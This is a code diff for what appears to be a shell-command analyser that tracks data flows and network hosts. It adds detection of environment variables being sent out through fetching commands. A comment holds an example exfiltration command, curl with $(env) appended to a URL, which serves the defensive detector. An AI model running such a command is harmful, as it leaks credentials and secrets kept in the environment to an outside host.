@@ -7,7 +7,7 @@ import { noteAct, readPath, writePath } from './note-act.ts'
 import { noteGuards, noteHeld } from './note-below.ts'
 import type { Effect, Program } from './program.ts'
 import { withoutText } from './program-output.ts'
-import { nested, remoteCode, runFile, runText } from './run-text.ts'
+import { arrive, nested, remoteCode, runFile, runText } from './run-text.ts'
 import { type Run, spend } from './shell/followed-call.ts'
 import { mergeFlows, NOTHING, type ShellState } from './shell/state.ts'
 import type { Command, Given } from './started-command.ts'
@@ -140,11 +140,14 @@ export function apply(
     }
   }
   if (isSent) noteSent(run, state, mergeFlows(withoutText(given.input), result.read), result.hosts, command)
+  // curl "https://…/?d=$(env)"
+  if (row.fetches && result.hosts.length > 0 && command.argv.some(({ flow }) => flow?.environment))
+    noteSent(run, state, { environment: true }, result.hosts, command)
   if (row.fetches && result.hosts.length > 0)
-    for (const path of written) state.files.set(path, { hosts: result.hosts })
+    for (const path of written) arrive(run, state, path, { hosts: result.hosts }, command)
   else if (!row.copies && written.length > 0 && given.input && !effects.some((effect) => 'from' in effect))
     // tee: what is read on the input is what is written.
-    for (const path of written) if (!state.files.has(path)) state.files.set(path, given.input)
+    for (const path of written) if (!state.files.has(path)) arrive(run, state, path, given.input, command)
   return result
 }
 
